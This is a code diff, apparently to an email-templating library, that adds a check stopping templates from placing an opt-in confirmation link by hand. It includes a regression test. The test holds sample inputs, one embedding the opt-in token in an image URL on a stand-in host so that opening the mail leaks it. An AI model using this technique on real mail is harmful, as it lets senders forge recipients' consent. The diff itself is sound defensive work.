@@ -196,6 +196,7 @@ impl CompiledTemplate {
                 }
             }
         }
+        check_opt_in_placement(input)?;
         let html_source = compose_html(input)?;
         check_hidden(&html_source)?;
         let text_source = match &source.text {
@@ -293,6 +294,60 @@ fn check_size(field: &'static str, text: &str) -> Result<(), TemplateError> {
             field,
             format!("{field} contains a NUL character; remove it"),
         ));
+    }
+    Ok(())
+}
+
+/// The opt-in link is sendwell's, not the template's: it exists only as the
+/// button `{% opt_in_button %}` makes, between tags. Written by hand it
+/// could go anywhere (an image URL sends it to whoever serves the image on
+/// open), so `{{ opt_in_url }}` is refused in every part.
+fn check_opt_in_placement(input: &CompileInput<'_>) -> Result<(), TemplateError> {
+    let source = input.source;
+    let parts = [
+        ("subject", Some(input.subject)),
+        ("html", source.html.as_deref()),
+        ("text", source.text.as_deref()),
+        ("heading", source.heading.as_deref()),
+        ("image_url", source.image_url.as_deref()),
+        ("image_alt", source.image_alt.as_deref()),
+        ("button_text", source.button_text.as_deref()),
+        ("button_url", source.button_url.as_deref()),
+        ("signature", source.signature.as_deref()),
+    ];
+    for (field, part) in parts {
+        let Some(part) = part else { continue };
+        let mut names = BTreeSet::new();
+        collect_variables(part, &mut names);
+        if names.contains("opt_in_url") {
+            return Err(TemplateError::new(
+                field,
+                "{{ opt_in_url }} cannot be placed by hand: write {% opt_in_button \"Yes, keep me posted\" %} where the button goes (in an opt_in_request message)",
+            ));
+        }
+        if field != "html" && field != "text" && part.contains("opt_in_button") {
+            return Err(TemplateError::new(
+                field,
+                format!("{field} cannot hold the opt-in button: place it in the body"),
+            ));
+        }
+    }
+    if let Some(html) = source.html.as_deref() {
+        let mut rest = html;
+        let mut before = String::new();
+        while let Some(at) = rest.find("opt_in_button") {
+            before.push_str(&rest[..at]);
+            let open = before.rfind('<');
+            let close = before.rfind('>');
+            if open.is_some() && (close.is_none() || close < open) {
+                return Err(TemplateError::new(
+                    "html",
+                    "the opt-in button is inside an HTML tag: place {% opt_in_button %} between tags",
+                ));
+            }
+            before.push_str("opt_in_button");
+            rest = &rest[at + "opt_in_button".len()..];
+        }
     }
     Ok(())
 }
@@ -821,6 +876,24 @@ mod tests {
             got,
             ["company", "first_name", "i", "items", "plan", "seats"]
         );
+    }
+
+    /// Regression: `{{ opt_in_url }}` worked anywhere, so a workspace
+    /// could put it in an image URL and collect the token when the mail was
+    /// opened, then confirm the opt-in itself.
+    #[test]
+    fn regression_the_opt_in_link_is_only_placed_by_the_button() {
+        for html in [
+            "<p><img src=\"https://pixel.example/{{ opt_in_url }}\"></p>",
+            "<p><a href=\"{{opt_in_url}}\">yes</a></p>",
+            "<p><img alt='{% opt_in_button \"Yes\" %}'></p>",
+        ] {
+            assert!(compile(custom(html)).is_err(), "{html}");
+        }
+        assert!(compile(custom(
+            "<p>Would you like news?</p>{% opt_in_button \"Yes\" %}"
+        ))
+        .is_ok());
     }
 
     #[test]
